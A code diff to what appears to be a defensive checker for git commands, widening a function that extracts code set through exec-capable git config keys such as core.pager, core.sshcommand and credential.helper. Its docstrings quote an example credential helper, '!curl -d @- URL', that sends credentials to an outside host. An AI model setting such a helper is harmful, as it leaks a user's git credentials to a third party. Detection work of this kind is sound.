@@ -19,7 +19,7 @@ from ._gitkeys import ext_argv, is_credential_helper
 from ._resolve import Invocation
 from ._words import Field
 
-__all__ = ["check_git", "config_setting", "credential_helpers", "git_commands"]
+__all__ = ["check_git", "config_codes", "config_setting", "git_commands"]
 
 Add = Callable[[str, tuple[int, int], str, "str | None"], None]
 
@@ -72,7 +72,7 @@ def check_git(add: Add, inv: Invocation) -> None:
     elif sub in ("checkout", "restore", "switch") and _discards(sub, texts):
         add("shell.git-destructive", span, f"git {sub} discards uncommitted changes in the "
             "working tree", None)
-    elif sub == "config" and any(
+    elif sub == "config" and config_setting(texts) is not None and any(
             (t.lower().startswith(("core.pager", "core.sshcommand", "core.fsmonitor",
                                    "core.editor", "core.askpass", "credential.helper",
                                    "diff.external", "gpg.program"))
@@ -180,11 +180,13 @@ def git_commands(inv: Invocation) -> tuple[list[tuple[str, Field]], list[list[Fi
     return codes, argvs
 
 
-def credential_helpers(inv: Invocation) -> list[Field]:
-    """The code of credential helpers that ``git -c``, ``git clone -c`` and ``git config``
-    set (``credential.helper '!curl -d @- URL'``): it runs with the credentials on stdin."""
+def config_codes(inv: Invocation) -> list[tuple[Field, bool]]:
+    """The code that ``git config [opts] KEY VALUE`` sets (any exec key), and credential
+    helpers set by ``git -c``/``git clone -c`` (other ``-c`` values are ``_embedded``'s),
+    each with whether it is a credential helper (it runs with the credentials on stdin:
+    ``credential.helper '!curl -d @- URL'`` sends them)."""
     args = inv.args
-    out: list[Field] = []
+    out: list[tuple[Field, bool]] = []
     sub = _subcommand(args)
     for k, f in enumerate(args):
         t = f.text
@@ -200,14 +202,15 @@ def credential_helpers(inv: Invocation) -> list[Field]:
             key, _, value = setting.text.partition("=")
             code = git_exec_key(key, value) if is_credential_helper(key) else None
             if code is not None:
-                out.append(Field(code, setting.span, setting.taint))
+                out.append((Field(code, setting.span, setting.taint), True))
     if sub < len(args) and args[sub].text == "config":
         written = config_setting([f.text for f in args[sub + 1:]])
-        if written is not None and is_credential_helper(written[0]):
-            code = git_exec_key(*written)
-            field = next((f for f in args[sub + 1:] if f.text == written[1]), None)
-            if code is not None and field is not None:
-                out.append(Field(code, field.span, field.taint))
+        code = git_exec_key(*written) if written is not None else None
+        if code is not None and written is not None:
+            field = next((f for f in reversed(args) if f.text == written[1]), None)
+            if field is not None:
+                out.append((Field(code, field.span, field.taint),
+                            is_credential_helper(written[0])))
     return out
 
 
